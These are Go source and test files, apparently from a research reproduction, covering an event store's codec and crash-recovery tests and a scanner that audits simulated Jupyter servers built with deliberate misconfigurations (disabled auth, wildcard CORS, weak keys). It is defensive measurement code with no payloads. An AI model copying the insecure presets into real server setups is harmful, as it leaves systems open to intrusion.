				t.Fatalf("codec %s sealed sidecar codec %q", tc.codec, seg.Index.Codec)
			}
		}
	}

	if _, err := Open(t.TempDir(), Options{Codec: Codec("protobuf")}); err == nil {
		t.Fatal("unknown codec accepted")
	}
}

// TestJSONCodecRoundTrip keeps the v1 write path honest now that the
// default is binary: an explicitly JSON store round-trips and rotates
// exactly as before.
func TestJSONCodecRoundTrip(t *testing.T) {
	dir := t.TempDir()
	want := fillStore(t, dir, Options{Codec: CodecJSON, SegmentBytes: 2048, FlushEvery: 3}, 300)
	got := readAll(t, dir)
	if len(got) != len(want) {
		t.Fatalf("read %d events, wrote %d", len(got), len(want))
	}
	for i := range want {
		if got[i].Seq != want[i].Seq || got[i].User != want[i].User || !got[i].Time.Equal(want[i].Time) {
			t.Fatalf("event %d diverged: got %+v want %+v", i, got[i], want[i])
		}
	}
}

// writeMixedWith is writeMixed pinned to a codec.
func writeMixedWith(t *testing.T, dir string, codec Codec, perPhase int) {
	t.Helper()
	writeMixedOpts(t, dir, Options{SegmentBytes: 4096, FlushEvery: 16, Codec: codec}, perPhase)
}

// TestPushDownSkipsBodyDecode pins the v2 header filter: a kind or
// actor filter must discard non-matching frames before the body
// decode (Skipped > 0), deliver exactly the events a JSON store's
// per-event filtering delivers, and report identical frame-level loss
// accounting whether or not frames were skipped.
func TestPushDownSkipsBodyDecode(t *testing.T) {
	binDir, jsonDir := t.TempDir(), t.TempDir()
	writeMixedWith(t, binDir, CodecBinary, 400)
	writeMixedWith(t, jsonDir, CodecJSON, 400)
	bin, err := OpenRead(binDir)
	if err != nil {
		t.Fatal(err)
	}
	jsn, err := OpenRead(jsonDir)
	if err != nil {
		t.Fatal(err)
	}

	for name, f := range map[string]Filter{
		"kind":       {Kinds: []trace.Kind{trace.KindScanFinding}},
		"actor":      {Actor: "user2"},
		"kind+actor": {Kinds: []trace.Kind{trace.KindExec, trace.KindFileOp}, Actor: "user3"},
	} {
		want := scanFiltered(t, jsn, f)
		var got []trace.Event
		stats, err := bin.Scan(f, func(e trace.Event) error {
			got = append(got, e)
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
		if len(got) != len(want) {
			t.Fatalf("%s: binary delivered %d events, json %d", name, len(got), len(want))
		}
		for i := range want {
			if got[i].Seq != want[i].Seq {
				t.Fatalf("%s: event %d is seq %d, want %d", name, i, got[i].Seq, want[i].Seq)
			}
		}
		if stats.Skipped == 0 {
			t.Fatalf("%s: push-down skipped nothing; every frame was body-decoded", name)
		}
		// Every selected segment's frame is either decoded or skipped;
		// push-down must never lose one silently.
		if stats.Decoded+stats.Skipped < stats.Events {
			t.Fatalf("%s: decoded %d + skipped %d < delivered %d", name, stats.Decoded, stats.Skipped, stats.Events)
		}

		// A time-only filter has no header facet to push into.
		tstats, err := bin.Scan(Filter{Until: time.Date(2026, 6, 1, 23, 0, 0, 0, time.UTC)}, func(trace.Event) error { return nil })
		if err != nil {
			t.Fatal(err)
		}
		if tstats.Skipped != 0 {
			t.Fatalf("time-only filter skipped %d frames; push-down misfired", tstats.Skipped)
		}
	}
}

// TestPushDownLossAccountingFilterIndependent pins that a corrupt
// tail is measured identically with and without push-down: the CRC
// runs on every frame regardless, so a filtered replay warns about
// exactly the same loss as a full one.
func TestPushDownLossAccountingFilterIndependent(t *testing.T) {
	dir := t.TempDir()
	writeMixedWith(t, dir, CodecBinary, 200)
	s, err := OpenRead(dir)
	if err != nil {
		t.Fatal(err)
	}
	segs := s.Segments()
	victim := segs[len(segs)/2]
	f, err := os.OpenFile(victim.Path, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.Write([]byte("XXXXXXXXXXXXXXXX")); err != nil {
		t.Fatal(err)
	}
	f.Close()

	full, err := s.Scan(Filter{}, func(trace.Event) error { return nil })
	if err != nil {
		t.Fatal(err)
	}
	// An actor filter that selects the victim segment but skips most of
	// its frames. user0 appears in every segment (i%5 cycling).
	filtered, err := s.Scan(Filter{Actor: "user0"}, func(trace.Event) error { return nil })
	if err != nil {
		t.Fatal(err)
	}
	if full.TailLossBytes != 16 || filtered.TailLossBytes != 16 {
		t.Fatalf("tail loss full=%d filtered=%d, want 16 on both: push-down must not change loss accounting",
			full.TailLossBytes, filtered.TailLossBytes)
	}
	if filtered.Skipped == 0 {
		t.Fatal("actor filter skipped nothing; the independence claim went untested")
	}
}

// TestV2CorruptTailRecovery mirrors the v1 torn-tail tests on binary
// segments: truncating mid-frame loses exactly the torn frame, Open
// truncates it away with exact accounting, and the store accepts
// appends cleanly afterwards.
func TestV2CorruptTailRecovery(t *testing.T) {
	dir := t.TempDir()
	fillStore(t, dir, Options{Codec: CodecBinary}, 50)
	s, err := OpenRead(dir)
	if err != nil {
		t.Fatal(err)
	}
	seg := s.Segments()[0]
	st, err := os.Stat(seg.Path)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(seg.Path, st.Size()-5); err != nil {
		t.Fatal(err)
	}
	// The sidecar now overstates the segment; remove it so open-time
	// recovery rebuilds from the data, as after a crash mid-seal.
	os.Remove(indexPath(seg.Path))

	w, err := Open(dir, Options{Codec: CodecBinary})
	if err != nil {
		t.Fatal(err)
	}
	rec := w.Recovered()
	if len(rec) != 1 {
		t.Fatalf("recovered %d segments, want 1: %+v", len(rec), rec)
	}
	if rec[0].LostBytes <= 0 {
		t.Fatalf("recovery reported %d lost bytes", rec[0].LostBytes)
	}
	after, err := os.Stat(seg.Path)
	if err != nil {
		t.Fatal(err)
	}
	if after.Size() != st.Size()-5-rec[0].LostBytes {
		t.Fatalf("truncated to %d bytes; want torn size %d minus reported loss %d",
			after.Size(), st.Size()-5, rec[0].LostBytes)
	}
	if err := w.Append(mkEvent(999, trace.KindExec, "post-recovery", time.Now())); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}

	got := readAll(t, dir)
	for _, e := range got {
		if e.User == "post-recovery" {
			return
		}
	}
	t.Fatal("post-recovery append not readable")
}

// attackTrace is a deterministic workload slice with real attack
// actors, so the core engine raises incidents worth comparing.
func attackTrace(n int) []trace.Event {
	return workload.StandardMix(11, n).Events
}

// incidentTable replays a store through the full core engine and
// renders the top-incidents table — the end-to-end artifact the
// mixed-codec guarantee is stated in terms of.
func incidentTable(t *testing.T, dir string, workers int) string {
	t.Helper()
	s, err := OpenRead(dir)
	if err != nil {
		t.Fatal(err)
	}
	eng := core.MustEngine()
	var mu sync.Mutex
	if _, err := s.Replay(Filter{}, workers, 256, func(b []trace.Event) {
		mu.Lock()
		eng.ProcessBatch(b)
		mu.Unlock()
	}); err != nil {
		t.Fatal(err)
	}
	return core.RenderTopIncidents(eng.Incidents(), 10)
}

// TestMixedCodecStoreReplaysIdentically is the tentpole guarantee: a
// store holding v1 JSON and v2 binary segments side by side replays
// to a byte-identical top-incidents table as an all-JSON recording of
// the same stream, at worker counts 1 and 8, surviving Compact and a
// crash-torn v2 tail along the way.
func TestMixedCodecStoreReplaysIdentically(t *testing.T) {
	events := attackTrace(1500)
	half := len(events) / 2

	jsonDir, mixedDir := t.TempDir(), t.TempDir()
	write := func(dir string, codec Codec, evs []trace.Event) {
		t.Helper()
		s, err := Open(dir, Options{SegmentBytes: 16 << 10, FlushEvery: 32, Codec: codec})
		if err != nil {
			t.Fatal(err)
		}
		if err := s.AppendBatch(evs); err != nil {
			t.Fatal(err)
		}
		if err := s.Close(); err != nil {
			t.Fatal(err)
		}
	}
	// Reference: the whole stream as v1 JSON.
	write(jsonDir, CodecJSON, events)
	// Mixed: first half v1, second half appended as v2 after a reopen —
	// the codec-migration shape a real store goes through.
	write(mixedDir, CodecJSON, events[:half])
	write(mixedDir, CodecBinary, events[half:])

	var codecs []string
	ms, err := OpenRead(mixedDir)
	if err != nil {
		t.Fatal(err)
	}
	for _, seg := range ms.Segments() {
		codecs = append(codecs, seg.Index.Codec)
	}
	joined := strings.Join(codecs, ",")
	if !strings.Contains(joined, "json") || !strings.Contains(joined, "binary") {
		t.Fatalf("store not actually mixed: segment codecs %v", codecs)
	}

	want := incidentTable(t, jsonDir, 1)
	if !strings.Contains(want, "INCIDENTS BY RISK") && want == "" {
		t.Fatal("reference incident table empty; workload raised nothing")
	}
	for _, workers := range []int{1, 8} {
		if got := incidentTable(t, mixedDir, workers); got != want {
			t.Fatalf("mixed store at workers=%d diverged from all-JSON table:\n--- got ---\n%s--- want ---\n%s", workers, got, want)
		}
	}

	// Crash recovery on the mixed store: tear the final (v2) segment's
	// tail; the incident table from the surviving prefix must again be
	// worker-count-independent.
	segs := ms.Segments()
	last := segs[len(segs)-1]
	st, err := os.Stat(last.Path)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(last.Path, st.Size()-7); err != nil {
		t.Fatal(err)
	}
	os.Remove(indexPath(last.Path))
	w, err := Open(mixedDir, Options{Codec: CodecBinary})
	if err != nil {
		t.Fatal(err)
	}
	if len(w.Recovered()) != 1 {
		t.Fatalf("expected one recovered segment, got %+v", w.Recovered())
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	torn1 := incidentTable(t, mixedDir, 1)
	torn8 := incidentTable(t, mixedDir, 8)
	if torn1 != torn8 {
		t.Fatalf("post-recovery tables diverge across workers:\n--- w1 ---\n%s--- w8 ---\n%s", torn1, torn8)
	}

	// Compact must honor retention identically across codecs: drop the
	// oldest (JSON) segments and keep replaying the survivors cleanly.
	w, err = Open(mixedDir, Options{Codec: CodecBinary})
	if err != nil {
		t.Fatal(err)
	}
	before := len(w.Segments())
	dropped, err := w.Compact(3)
	if err != nil {
		t.Fatal(err)
	}
	if dropped == 0 || len(w.Segments()) != 3 {
		t.Fatalf("Compact(3) dropped %d, kept %d of %d", dropped, len(w.Segments()), before)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	c1 := incidentTable(t, mixedDir, 1)
	c8 := incidentTable(t, mixedDir, 8)
	if c1 != c8 {
		t.Fatalf("post-compact tables diverge across workers:\n--- w1 ---\n%s--- w8 ---\n%s", c1, c8)
	}
}
