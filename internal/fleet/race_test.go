package fleet

import (
	"context"
	"errors"
	"testing"
	"time"
)

// These tests exist to run hot under `go test -race ./...`: many
// workers hammering shared aggregation state, and cancellation racing
// in-flight probes.

func TestScanManyWorkersRaceClean(t *testing.T) {
	f := spawnFleet(t, 11, 32)
	rep, err := Scan(context.Background(), f.Targets(), Options{Workers: 16})
	if err != nil {
		t.Fatal(err)
	}
	if rep.Scanned != 32 || rep.Unreachable != 0 {
		t.Fatalf("report = %+v", rep)
	}
	if rep.Stats.MaxInFlight < 1 || rep.Stats.MaxInFlight > 16 {
		t.Fatalf("peak in-flight = %d", rep.Stats.MaxInFlight)
	}
}

// cancelAfterWriter cancels a context after n stream writes — a
// deterministic way to interrupt a sweep mid-flight.
type cancelAfterWriter struct {
	n      int
	cancel context.CancelFunc
}

func (w *cancelAfterWriter) Write(p []byte) (int, error) {
	w.n--
	if w.n == 0 {
		w.cancel()
	}
	return len(p), nil
}

func TestScanEarlyCancellationResultsComplete(t *testing.T) {
	f := spawnFleet(t, 13, 24)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	rep, err := Scan(ctx, f.Targets(), Options{
		Workers: 2,
		Rate:    100, // slow the sweep so the cancel lands mid-flight
		Stream:  &cancelAfterWriter{n: 3, cancel: cancel},
	})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	if rep == nil {
		t.Fatal("cancelled sweep returned no report")
	}
	// Every completed result is in the report exactly once; nothing
	// was double-scanned or lost.
	if rep.Scanned < 3 || rep.Scanned >= 24 {
		t.Fatalf("scanned = %d, want partial coverage in [3,24)", rep.Scanned)
	}
	total := 0
	for _, n := range rep.ByCheck {
		total += n
	}
	if rep.Scanned > 0 && rep.MeanScore == 0 && total == 0 {
		t.Fatal("partial report carries no aggregated findings")
	}
}

// failAfterWriter errors after n writes — a disk-full stand-in for
// stream and checkpoint sinks.
type failAfterWriter struct{ n int }

func (w *failAfterWriter) Write(p []byte) (int, error) {
	w.n--
	if w.n < 0 {
		return 0, errors.New("disk full")
	}
	return len(p), nil
}

func TestScanStreamFailureStopsSweepWithoutLeak(t *testing.T) {
	f := spawnFleet(t, 19, 16)
	rep, err := Scan(context.Background(), f.Targets(), Options{
		Workers: 4,
		Stream:  &failAfterWriter{n: 2},
	})
	if err == nil || rep != nil {
		t.Fatalf("sink failure not surfaced: rep=%v err=%v", rep, err)
	}
	// Scan returning at all proves the pool drained: a leaked worker
	// blocked on the results channel would deadlock this test.
}

func TestScanDuplicateTargetIDsCollapsed(t *testing.T) {
	f := spawnFleet(t, 17, 6)
	targets := f.Targets()
	doubled := append(append([]Target{}, targets...), targets...)
	rep, err := Scan(context.Background(), doubled, Options{Workers: 4, Timeout: 2 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	if rep.Targets != 6 || rep.Scanned != 6 {
		t.Fatalf("duplicated input scanned %d/%d, want 6/6", rep.Scanned, rep.Targets)
	}
}
