// Package fleet is the concurrent scanning subsystem: it spawns a
// fleet of in-process simulated Jupyter servers whose configurations
// sample the paper's misconfiguration taxonomy, probes them through a
// bounded worker pool with token-bucket rate limiting, and aggregates
// the results into a deterministic census report with streaming JSONL
// output and a resumable checkpoint — the wide-scan methodology of the
// paper reproduced against a synthetic internet.
package fleet

import (
	"fmt"
	"math/rand"
	"strings"

	"repro/internal/server"
)

// fleetToken is the shared credential every fleet server is started
// with; probes run unauthenticated, as an internet scanner would.
const fleetToken = "fleet-scan-token-0123456789abcdef"

// Knobs is one bit per misconfiguration class in the taxonomy. The
// zero value is a fully hardened server.
type Knobs struct {
	OpenBind     bool `json:"open_bind,omitempty"`     // bound to 0.0.0.0
	NoAuth       bool `json:"no_auth,omitempty"`       // authentication disabled
	TokenInURL   bool `json:"token_in_url,omitempty"`  // ?token= accepted
	WildcardCORS bool `json:"wildcard_cors,omitempty"` // Access-Control-Allow-Origin: *
	NoTLS        bool `json:"no_tls,omitempty"`        // cleartext transport
	Terminals    bool `json:"terminals,omitempty"`     // terminals enabled
	Root         bool `json:"root,omitempty"`          // running as root permitted
	WeakKey      bool `json:"weak_key,omitempty"`      // short kernel connection key
}

// knobTags pairs each knob with its name fragment, in a fixed order so
// preset names are stable.
var knobTags = []struct {
	tag string
	get func(Knobs) bool
}{
	{"open-bind", func(k Knobs) bool { return k.OpenBind }},
	{"no-auth", func(k Knobs) bool { return k.NoAuth }},
	{"token-in-url", func(k Knobs) bool { return k.TokenInURL }},
	{"wildcard-cors", func(k Knobs) bool { return k.WildcardCORS }},
	{"no-tls", func(k Knobs) bool { return k.NoTLS }},
	{"terminals", func(k Knobs) bool { return k.Terminals }},
	{"root", func(k Knobs) bool { return k.Root }},
	{"weak-key", func(k Knobs) bool { return k.WeakKey }},
}

// Name renders the knob combination as a stable preset name,
// "hardened" when every knob is off.
func (k Knobs) Name() string {
	var tags []string
	for _, kt := range knobTags {
		if kt.get(k) {
			tags = append(tags, kt.tag)
		}
	}
	if len(tags) == 0 {
		return "hardened"
	}
	return strings.Join(tags, "+")
}

// Config materializes the knobs into a server configuration, starting
// from the hardened baseline and flipping each selected knob wrong.
func (k Knobs) Config() server.Config {
	cfg, _ := server.PresetConfig("hardened", fleetToken)
	if k.OpenBind {
		cfg.BindAddress = "0.0.0.0"
	}
	if k.NoAuth {
		cfg.Auth.DisableAuth = true
	}
	if k.TokenInURL {
		cfg.Auth.AllowTokenInURL = true
	}
	if k.WildcardCORS {
		cfg.AllowOrigin = "*"
	}
	if k.NoTLS {
		cfg.TLSEnabled = false
	}
	if k.Terminals {
		cfg.EnableTerminals = true
	}
	if k.Root {
		cfg.AllowRoot = true
	}
	if k.WeakKey {
		cfg.ConnectionKey = "shortkey"
	}
	return cfg
}

// Preset is one generated fleet member configuration.
type Preset struct {
	ID    string `json:"id"`
	Name  string `json:"name"`
	Knobs Knobs  `json:"knobs"`
}

// Generate deterministically samples n presets from the knob space:
// the same seed always yields the same fleet. The first two presets
// anchor the extremes — fully hardened and everything-wrong — and the
// rest are random combinations, so every census sees both poles of
// the paper's measured population.
func Generate(seed int64, n int) []Preset {
	rng := rand.New(rand.NewSource(seed))
	out := make([]Preset, 0, n)
	for i := 0; i < n; i++ {
		var k Knobs
		switch i {
		case 0:
			// hardened anchor: zero value
		case 1:
			k = Knobs{OpenBind: true, NoAuth: true, TokenInURL: true,
				WildcardCORS: true, NoTLS: true, Terminals: true,
				Root: true, WeakKey: true}
		default:
			k = Knobs{
				OpenBind:     rng.Intn(2) == 1,
				NoAuth:       rng.Intn(2) == 1,
				TokenInURL:   rng.Intn(2) == 1,
				WildcardCORS: rng.Intn(2) == 1,
				NoTLS:        rng.Intn(2) == 1,
				Terminals:    rng.Intn(2) == 1,
				Root:         rng.Intn(2) == 1,
				WeakKey:      rng.Intn(2) == 1,
			}
		}
		out = append(out, Preset{
			ID:    presetID(i),
			Name:  k.Name(),
			Knobs: k,
		})
	}
	return out
}

func presetID(i int) string { return fmt.Sprintf("tgt-%04d", i) }
