package fleet

import (
	"fmt"
	"sort"
	"strings"

	"repro/internal/scan"
)

// WorstTarget is one entry in the report's worst-offenders list.
type WorstTarget struct {
	TargetID string  `json:"target_id"`
	Preset   string  `json:"preset"`
	Score    float64 `json:"score"`
	Findings int     `json:"findings"`
}

// Report is the aggregated fleet census. Everything in it is a pure
// function of the scanned results in target-ID order, so the same
// seed always yields an identical report; wall-clock performance
// lives in Stats and stays out of the census.
type Report struct {
	Targets     int            `json:"targets"`
	Scanned     int            `json:"scanned"`
	Resumed     int            `json:"resumed"`
	Unreachable int            `json:"unreachable"`
	OpenAccess  int            `json:"open_access"`
	MeanScore   float64        `json:"mean_score"`
	BySuite     map[string]int `json:"by_suite"`
	BySeverity  map[string]int `json:"by_severity"`
	ByCheck     map[string]int `json:"by_check"`
	Worst       []WorstTarget  `json:"worst"`

	Stats Stats `json:"-"`
}

// BuildReport aggregates results into a census. totalTargets is the
// size of the sweep's target set; results may be fewer when a sweep
// was cancelled early.
func BuildReport(totalTargets int, results []Result, topK int) *Report {
	rs := append([]Result{}, results...)
	sortResults(rs)
	rep := &Report{
		Targets:    totalTargets,
		BySuite:    map[string]int{},
		BySeverity: map[string]int{},
		ByCheck:    map[string]int{},
	}
	var scoreSum float64
	for _, r := range rs {
		rep.Scanned++
		if r.Resumed {
			rep.Resumed++
		}
		if !r.Reachable {
			rep.Unreachable++
		}
		if r.OpenAccess {
			rep.OpenAccess++
		}
		scoreSum += r.Score
		for sev, n := range scan.SeverityCounts(r.Findings) {
			rep.BySeverity[sev] += n
		}
		for suite, n := range scan.SuiteCounts(r.Findings) {
			rep.BySuite[suite] += n
		}
		for _, f := range r.Findings {
			rep.ByCheck[f.CheckID]++
		}
	}
	if rep.Scanned > 0 {
		rep.MeanScore = scoreSum / float64(rep.Scanned)
	}
	worst := append([]Result{}, rs...)
	sort.SliceStable(worst, func(i, j int) bool {
		if worst[i].Score != worst[j].Score {
			return worst[i].Score < worst[j].Score
		}
		return worst[i].TargetID < worst[j].TargetID
	})
	if topK > len(worst) {
		topK = len(worst)
	}
	for _, r := range worst[:topK] {
		rep.Worst = append(rep.Worst, WorstTarget{
			TargetID: r.TargetID, Preset: r.Preset,
			Score: r.Score, Findings: len(r.Findings),
		})
	}
	return rep
}

// severityOrder fixes the render order of severity rows.
var severityOrder = []string{"critical", "high", "medium", "low", "info"}

// Render prints the census as an aligned, deterministic report.
func (r *Report) Render() string {
	var b strings.Builder
	fmt.Fprintf(&b, "Fleet census: %d targets, %d scanned (%d resumed), %d unreachable, %d open-access\n",
		r.Targets, r.Scanned, r.Resumed, r.Unreachable, r.OpenAccess)
	fmt.Fprintf(&b, "mean hardening score %.1f/100\n", r.MeanScore)
	if len(r.BySuite) > 0 {
		b.WriteString("findings by suite:\n")
		suites := make([]string, 0, len(r.BySuite))
		for s := range r.BySuite {
			suites = append(suites, s)
		}
		sort.Strings(suites)
		for _, s := range suites {
			fmt.Fprintf(&b, "  %-9s %5d\n", s, r.BySuite[s])
		}
	}
	b.WriteString("findings by severity:\n")
	for _, sev := range severityOrder {
		if n, ok := r.BySeverity[sev]; ok {
			fmt.Fprintf(&b, "  %-8s %5d\n", sev, n)
		}
	}
	b.WriteString("findings by check:\n")
	checks := make([]string, 0, len(r.ByCheck))
	for id := range r.ByCheck {
		checks = append(checks, id)
	}
	sort.Strings(checks)
	for _, id := range checks {
		fmt.Fprintf(&b, "  %-22s %5d\n", id, r.ByCheck[id])
	}
	if len(r.Worst) > 0 {
		fmt.Fprintf(&b, "top %d worst targets:\n", len(r.Worst))
		for _, w := range r.Worst {
			fmt.Fprintf(&b, "  %-9s score %3.0f  findings %2d  %s\n",
				w.TargetID, w.Score, w.Findings, w.Preset)
		}
	}
	return b.String()
}

// RenderStats prints the sweep's wall-clock performance, one
// "sweep:"-prefixed line per row so deterministic-census consumers
// can filter all of it out.
func (s Stats) Render() string {
	var b strings.Builder
	fmt.Fprintf(&b, "sweep: %d scanned, %d resumed, %d incomplete, %.1f targets/sec, probe p50 %.0fms p95 %.0fms max %.0fms, peak in-flight %d",
		s.Scanned, s.Resumed, s.Incomplete, s.TargetsPerSec, s.ProbeP50MS, s.ProbeP95MS, s.ProbeMaxMS, s.MaxInFlight)
	suites := make([]string, 0, len(s.PerSuite))
	for name := range s.PerSuite {
		suites = append(suites, name)
	}
	sort.Strings(suites)
	for _, name := range suites {
		st := s.PerSuite[name]
		avg := 0.0
		if st.Targets > 0 {
			avg = st.TotalMS / float64(st.Targets)
		}
		fmt.Fprintf(&b, "\nsweep: suite %-9s %4d targets, avg %6.2fms, max %6.2fms",
			name, st.Targets, avg, st.MaxMS)
	}
	return b.String()
}
