package fleet

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"sync"
	"testing"
	"time"

	"repro/internal/scan"
	"repro/internal/trace"
)

func TestGenerateDeterministic(t *testing.T) {
	a := Generate(42, 32)
	b := Generate(42, 32)
	if !reflect.DeepEqual(a, b) {
		t.Fatal("same seed produced different fleets")
	}
	c := Generate(43, 32)
	if reflect.DeepEqual(a, c) {
		t.Fatal("different seeds produced identical fleets")
	}
	seen := map[string]bool{}
	for _, p := range a {
		if seen[p.ID] {
			t.Fatalf("duplicate preset id %s", p.ID)
		}
		seen[p.ID] = true
	}
}

func TestGenerateAnchors(t *testing.T) {
	ps := Generate(1, 8)
	if ps[0].Name != "hardened" || (ps[0].Knobs != Knobs{}) {
		t.Fatalf("preset 0 not hardened anchor: %+v", ps[0])
	}
	all := Knobs{OpenBind: true, NoAuth: true, TokenInURL: true,
		WildcardCORS: true, NoTLS: true, Terminals: true, Root: true, WeakKey: true}
	if ps[1].Knobs != all {
		t.Fatalf("preset 1 not everything-wrong anchor: %+v", ps[1])
	}
}

func TestKnobsNameAndConfig(t *testing.T) {
	cases := []struct {
		knobs Knobs
		name  string
		check func(t *testing.T)
	}{
		{Knobs{}, "hardened", nil},
		{Knobs{NoAuth: true}, "no-auth", nil},
		{Knobs{OpenBind: true, Terminals: true}, "open-bind+terminals", nil},
		{Knobs{WeakKey: true}, "weak-key", nil},
	}
	for _, c := range cases {
		if got := c.knobs.Name(); got != c.name {
			t.Errorf("Name(%+v) = %q, want %q", c.knobs, got, c.name)
		}
	}
	cfg := Knobs{NoAuth: true, WildcardCORS: true, WeakKey: true}.Config()
	if !cfg.Auth.DisableAuth || cfg.AllowOrigin != "*" || len(cfg.ConnectionKey) >= 16 {
		t.Fatalf("knob mapping wrong: %+v", cfg)
	}
	hardened := Knobs{}.Config()
	if hardened.Auth.DisableAuth || hardened.AllowOrigin == "*" || !hardened.TLSEnabled {
		t.Fatalf("hardened base not hardened: %+v", hardened)
	}
}

// spawnFleet is a test helper: spawn n targets from seed, cleanup on
// test end.
func spawnFleet(t *testing.T, seed int64, n int) *Fleet {
	t.Helper()
	f, err := Spawn(Generate(seed, n))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

func TestScanExactlyOnceWithStream(t *testing.T) {
	f := spawnFleet(t, 1, 12)
	var stream bytes.Buffer
	rep, err := Scan(context.Background(), f.Targets(), Options{
		Workers: 4, Stream: &stream, Timeout: 3 * time.Second,
	})
	if err != nil {
		t.Fatal(err)
	}
	if rep.Targets != 12 || rep.Scanned != 12 || rep.Resumed != 0 || rep.Unreachable != 0 {
		t.Fatalf("report = %+v", rep)
	}
	// Every target appears exactly once in the JSONL stream.
	seen := map[string]int{}
	dec := json.NewDecoder(&stream)
	for dec.More() {
		var r Result
		if err := dec.Decode(&r); err != nil {
			t.Fatal(err)
		}
		seen[r.TargetID]++
	}
	if len(seen) != 12 {
		t.Fatalf("stream has %d distinct targets, want 12", len(seen))
	}
	for id, n := range seen {
		if n != 1 {
			t.Errorf("target %s scanned %d times", id, n)
		}
	}
}

func TestScanAnchorsScoreAsExpected(t *testing.T) {
	f := spawnFleet(t, 5, 4)
	rep, err := Scan(context.Background(), f.Targets(), Options{Workers: 2, TopK: 4})
	if err != nil {
		t.Fatal(err)
	}
	// Worst list is sorted ascending by score; the everything-wrong
	// anchor must be at the bottom and the hardened anchor clean.
	byID := map[string]WorstTarget{}
	for _, w := range rep.Worst {
		byID[w.TargetID] = w
	}
	if w := byID["tgt-0000"]; w.Score != 100 || w.Findings != 0 {
		t.Fatalf("hardened anchor = %+v", w)
	}
	if w := byID["tgt-0001"]; w.Score != 0 || w.Findings < 10 {
		t.Fatalf("everything-wrong anchor = %+v", w)
	}
}

func TestReportDeterministicAcrossWorkerCounts(t *testing.T) {
	f := spawnFleet(t, 9, 16)
	a, err := Scan(context.Background(), f.Targets(), Options{Workers: 1})
	if err != nil {
		t.Fatal(err)
	}
	b, err := Scan(context.Background(), f.Targets(), Options{Workers: 8})
	if err != nil {
		t.Fatal(err)
	}
	if a.Render() != b.Render() {
		t.Fatalf("census differs with worker count:\n%s\nvs\n%s", a.Render(), b.Render())
	}
}

func TestCheckpointResumeRoundTrip(t *testing.T) {
	f := spawnFleet(t, 3, 16)
	targets := f.Targets()
	ckpt := filepath.Join(t.TempDir(), "sweep.ckpt")

	// First sweep dies partway: cancellation after a few results
	// leaves a partial checkpoint, the way a killed sweep would.
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	first, err := Scan(ctx, targets, Options{
		Workers: 2, Rate: 200, CheckpointPath: ckpt,
		Stream: &cancelAfterWriter{n: 4, cancel: cancel},
	})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	firstScanned := first.Scanned
	if firstScanned < 4 || firstScanned >= 16 {
		t.Fatalf("interrupted sweep scanned %d, want partial coverage in [4,16)", firstScanned)
	}

	// Resumed sweep over the same fleet scans only the remainder.
	second, err := Scan(context.Background(), targets, Options{
		Workers: 4, CheckpointPath: ckpt,
	})
	if err != nil {
		t.Fatal(err)
	}
	if second.Stats.Resumed != firstScanned || second.Stats.Scanned != 16-firstScanned {
		t.Fatalf("resumed sweep = %+v after %d first-pass results", second.Stats, firstScanned)
	}
	if second.Scanned != 16 || second.Resumed != firstScanned {
		t.Fatalf("resumed report = %+v", second)
	}

	// The resumed census matches a clean one-shot sweep.
	clean, err := Scan(context.Background(), targets, Options{Workers: 4})
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(second.ByCheck, clean.ByCheck) ||
		!reflect.DeepEqual(second.BySeverity, clean.BySeverity) ||
		second.MeanScore != clean.MeanScore ||
		!reflect.DeepEqual(second.Worst, clean.Worst) {
		t.Fatalf("resumed census diverged:\n%s\nvs\n%s", second.Render(), clean.Render())
	}
}

func TestCheckpointRejectsDifferentFleet(t *testing.T) {
	// Resuming against a checkpoint written by a different fleet
	// (e.g. another --seed) must fail loudly, not silently fold
	// foreign results into the census.
	f := spawnFleet(t, 3, 6)
	targets := f.Targets()
	ckpt := filepath.Join(t.TempDir(), "sweep.ckpt")
	if _, err := Scan(context.Background(), targets, Options{Workers: 2, CheckpointPath: ckpt}); err != nil {
		t.Fatal(err)
	}
	mutated := append([]Target{}, targets...)
	mutated[2].Preset = "no-auth+root" // same ID, different configuration
	if _, err := Scan(context.Background(), mutated, Options{Workers: 2, CheckpointPath: ckpt}); err == nil {
		t.Fatal("checkpoint from a different fleet accepted")
	}
}

func TestLoadCheckpointToleratesTornTail(t *testing.T) {
	path := filepath.Join(t.TempDir(), "torn.ckpt")
	whole, _ := json.Marshal(Result{TargetID: "tgt-0001", Score: 50})
	content := append(whole, '\n')
	content = append(content, []byte(`{"target_id":"tgt-0002","sco`)...) // torn write
	if err := os.WriteFile(path, content, 0o644); err != nil {
		t.Fatal(err)
	}
	got, err := LoadCheckpoint(path)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 1 || got["tgt-0001"].Score != 50 {
		t.Fatalf("loaded = %+v", got)
	}
}

func TestLoadCheckpointRejectsMidFileCorruption(t *testing.T) {
	path := filepath.Join(t.TempDir(), "bad.ckpt")
	content := []byte("not json at all\n{\"target_id\":\"tgt-0001\"}\n")
	if err := os.WriteFile(path, content, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := LoadCheckpoint(path); err == nil {
		t.Fatal("mid-file corruption accepted")
	}
}

func TestLoadCheckpointMissingFile(t *testing.T) {
	got, err := LoadCheckpoint(filepath.Join(t.TempDir(), "nope.ckpt"))
	if err != nil || len(got) != 0 {
		t.Fatalf("missing checkpoint: %v %+v", err, got)
	}
}

func TestBuildReportOrderIndependent(t *testing.T) {
	results := []Result{
		{TargetID: "tgt-0002", Preset: "no-auth", Score: 40, Reachable: true},
		{TargetID: "tgt-0000", Preset: "hardened", Score: 100, Reachable: true},
